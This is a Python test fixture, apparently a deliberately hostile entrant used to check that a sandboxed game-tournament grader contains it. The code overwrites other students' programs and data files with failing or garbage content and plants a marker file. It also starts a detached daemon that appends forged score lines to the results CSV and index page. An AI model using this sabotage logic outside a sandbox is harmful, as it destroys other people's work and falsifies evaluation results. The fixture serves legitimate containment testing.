# h03-rewrite-py -- hostile561 fixture: a student who rewrites the others.
#
# On every move: replaces every other student's program in the class folder
# (found from its parents' command line) and in OUT/agents (the prepared
# copies every later game starts from), and the opponent's working copy
# beside its own folder (../black, ../white, ../agent0, ../agent1: its
# program, playdata.txt and calibration.txt), with a program that fails;
# leaves h561-planted.txt in the class folder; then starts a daemon (double
# fork + setsid) that waits up to 150 s for OUT/results.csv and
# OUT/index.html to be written and appends a forged line to each.
# Expected in a box: none of those folders exists in its file system, the
# daemon dies when the move ends, and it plays exactly as s01-first-py; the
# class folder is byte for byte unchanged and the other students' grades
# are those of a class without it.
#
# Run it only through `duel referee` / `duel tournament`, in a box.
import os
import sys
import time

sys.dont_write_bytecode = True  # leave no __pycache__ in the folder
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
# s01-first-py's move generator and this class's kit, copied beside this
# file when the test builds the class (tests/python/test_hostile_class.py).
from first_move import *  # noqa: E402,F401,F403
from hostile_kit import *  # noqa: E402,F401,F403

PROGRAMS = ("homework.py", "homework2.py", "calibrate.py", "homework.cpp", "homework11.cpp",
            "homework.java", "homework", "calibrate")
BROKEN = {"py": 'raise SystemExit("h561: rewritten by h03-rewrite-py")\n',
          "c": "#error h561: rewritten by h03-rewrite-py\n",
          "sh": "#!/bin/sh\necho h561: rewritten by h03-rewrite-py >&2\nexit 3\n"}


def others(root):
    """The folders directly under `root` that are not this student's."""
    try:
        names = sorted(os.listdir(root))
    except OSError:
        return []
    return [os.path.join(root, n) for n in names
            if not n.startswith("h03") and os.path.isdir(os.path.join(root, n))]


def rewrite(folder):
    if os.path.realpath(folder) == os.path.realpath(os.getcwd()):
        return []
    done = []
    for name in PROGRAMS + ("playdata.txt", "calibration.txt"):
        path = os.path.join(folder, name)
        if not os.path.isfile(path):
            continue
        kind = "py" if name.endswith(".py") else "sh" if "." not in name else \
            "c" if name.endswith((".cpp", ".java")) else "py"
        text = BROKEN[kind] if name in PROGRAMS else "h561 garbage\n" * 1000
        try:
            with open(path + ".h561", "w") as f:
                f.write(text)
            os.chmod(path + ".h561", 0o755)
            os.replace(path + ".h561", path)
            done.append(path)
        except OSError:
            try:
                with open(path, "a") as f:
                    f.write("\n" + text)
                done.append(path + " (appended)")
            except OSError as e:
                say("rewrite", path, "refused", e.errno)
    return done


def later(outs):
    """The daemon: appends to OUT's results once they are written."""
    pending = [os.path.join(o, n) for o in outs for n in ("results.csv", "index.html")]
    end = time.time() + 150
    while pending and time.time() < end:
        for path in list(pending):
            if os.path.isfile(path):
                try:
                    with open(path, "a") as f:
                        f.write("h561-FORGED,100\n")
                    say("daemon appended to", path)
                except OSError as e:
                    say("daemon", path, "refused", e.errno)
                pending.remove(path)
        time.sleep(0.2)


def attack():
    mark("rewrite")
    found = discover()
    done = []
    for root in found["class"]:
        for folder in others(root):
            done += rewrite(folder)
        try:
            with open(os.path.join(root, "h561-planted.txt"), "w") as f:
                f.write("h561\n")
            done.append(os.path.join(root, "h561-planted.txt"))
        except OSError:
            pass
    for path in found["programs"]:
        done += rewrite(os.path.dirname(path))
    for out in found["out"]:
        for folder in others(os.path.join(out, "agents")):
            done += rewrite(folder)
    for task in found["tasks"]:
        for folder in others(task):  # the opponent's working copy
            done += rewrite(folder)
    say("rewrote", len(done), done[:50])
    if daemonize("rewrite-d"):
        try:
            later(found["out"])
        finally:
            os._exit(0)


if __name__ == "__main__":
    run(attack)
